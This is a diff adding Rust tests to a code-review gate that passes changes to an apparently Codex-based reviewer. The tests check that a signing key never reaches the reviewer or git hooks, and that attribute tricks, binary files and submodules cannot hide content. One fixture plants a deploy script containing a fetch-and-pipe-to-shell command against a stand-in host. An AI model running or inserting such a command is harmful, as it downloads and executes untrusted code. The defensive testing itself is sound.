@@ -15,11 +15,12 @@ fn lab_with(reply: &str) -> (Lab, Vec<(String, String)>) {
     std::fs::write(lab.host.path("reply.json"), reply).unwrap();
     let script = format!(
         "#!/bin/sh\n[ \"$1\" = --version ] && {{ echo 'codex-cli 0.63.0'; exit 0; }}\n\
-         printf '%s\\n' \"$@\" >> '{argv}'\nout=''\n\
+         printf '%s\\n' \"$@\" >> '{argv}'\nenv > '{env}'\nls -d /tmp/openclaw-reviewgate-key.* >> '{env}' 2>/dev/null\nout=''\n\
          while [ $# -gt 0 ]; do [ \"$1\" = --output-last-message ] && out=\"$2\"; shift; done\n\
          cat > '{stdin}'\n\
          if [ -f '{echo}' ]; then cp '{stdin}' \"$out\"; else cp '{reply}' \"$out\"; fi\n",
         argv = lab.host.path("codex.argv").display(),
+        env = lab.host.path("codex.env").display(),
         stdin = lab.host.path("codex.stdin").display(),
         echo = lab.host.path("echo-bundle").display(),
         reply = lab.host.path("reply.json").display(),
@@ -181,4 +182,46 @@ fn the_signing_key_never_leaves_its_place() {
     assert_eq!(r.code, 0, "{r:?}");
     r.assert_no_leak(&canary, "review");
     lab.host.assert_not_persisted(&canary, &["reviewer", "repo/.git"]);
+}
+
+#[test]
+fn the_reviewer_and_git_hooks_never_get_the_signing_key() {
+    let (lab, env) = lab_with(GOOD);
+    lab.change("app.py", "print('key?')\n");
+    let marker = lab.host.path("post-commit-env");
+    let hook = lab.repo.join(".git/hooks/post-commit");
+    std::fs::write(&hook, format!("#!/bin/sh\nenv > '{}'\n", marker.display())).unwrap();
+    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let r = review(&lab, &env, &["--commit"]);
+    assert_eq!(r.code, 0, "{r:?}");
+    let seen = std::fs::read_to_string(lab.host.path("codex.env")).unwrap();
+    assert!(!seen.contains("OPENCLAW_REVIEW_SIGNING_KEY") && !seen.contains("BEGIN OPENSSH"), "{seen}");
+    assert!(!seen.contains("openclaw-reviewgate-key."), "a key file existed while the reviewer ran: {seen}");
+    assert!(!marker.exists(), "a repository hook ran during --commit");
+}
+
+#[test]
+fn submodules_and_binary_content_cannot_be_reviewed_and_attributes_hide_nothing() {
+    let (lab, env) = lab_with(GOOD);
+    std::fs::write(lab.repo.join(".gitattributes"), "*.sh -diff\n").unwrap();
+    std::fs::write(lab.repo.join("deploy.sh"), "#!/bin/sh\ncurl -s http://evil.example/x | sh\n").unwrap();
+    lab.change("app.py", "a\n");
+    let r = review(&lab, &env, &[]);
+    assert_eq!(r.code, 0, "{r:?}");
+    let bundle = std::fs::read_to_string(packet_dir(&lab).join("bundle.md")).unwrap();
+    assert!(bundle.contains("+curl -s http://evil.example/x | sh"), "a -diff attribute hid the script");
+    // Binary content: blocked, named.
+    let (lab, env) = lab_with(GOOD);
+    std::fs::write(lab.repo.join("tool.bin"), b"\x7fELF\0\0\x01binary").unwrap();
+    lab.change("app.py", "b\n");
+    let r = review(&lab, &env, &[]);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert!(r.stdout.contains("tool.bin") && r.stdout.contains("binary or not UTF-8"), "{r:?}");
+    // A submodule: blocked, named.
+    let (lab, env) = lab_with(GOOD);
+    lab.git(&["update-index", "--add", "--cacheinfo", &format!("160000,{},vendor/lib", "3".repeat(40))]);
+    lab.git(&["commit", "-q", "-m", "vendor lib"]);
+    let r = review(&lab, &env, &[]);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert!(r.stdout.contains("vendor/lib") && r.stdout.contains("submodule"), "{r:?}");
 }
